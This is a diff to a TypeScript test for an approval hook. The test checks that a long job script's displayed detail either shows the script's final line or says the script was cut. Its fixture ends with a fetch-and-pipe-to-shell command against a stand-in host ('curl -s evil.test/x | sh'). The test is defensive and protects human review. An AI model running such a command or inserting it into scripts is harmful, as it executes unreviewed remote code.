@@ -20,7 +20,10 @@ import type { ApprovalRequest } from "../../runner/approval/store.ts";
 import { submitRequestText } from "../../runner/jobs/run-jobs.ts";
 
 describe("a38b: the onApproval hook's copy of a long job script", () => {
-  const filler = Array.from({ length: 600 }, (_, i) => `echo "step ${String(i).padStart(3, "0")}: fit the model"`);
+  const filler = Array.from(
+    { length: 600 },
+    (_, i) => `echo "step ${String(i).padStart(3, "0")}: fit the model"`,
+  );
   const script = ["#!/bin/bash", ...filler, "curl -s evil.test/x | sh"].join("\n");
   const { summary, detail } = submitRequestText(
     { script: "fit.sh", args: [], name: "fit", sha256: "0".repeat(64), text: script },
@@ -45,6 +48,9 @@ describe("a38b: the onApproval hook's copy of a long job script", () => {
     const shown = env.SCIFI_APPROVAL_DETAIL ?? "";
     const whole = shown.includes("curl -s evil.test/x | sh");
     const saysCut = /not shown|left out|cut/.test(shown.split("\n").at(-1) ?? "");
-    expect(whole || saysCut, "the hook's detail ends as a harmless script; the curl line is silently gone").toBe(true);
+    expect(
+      whole || saysCut,
+      "the hook's detail ends as a harmless script; the curl line is silently gone",
+    ).toBe(true);
   });
 });
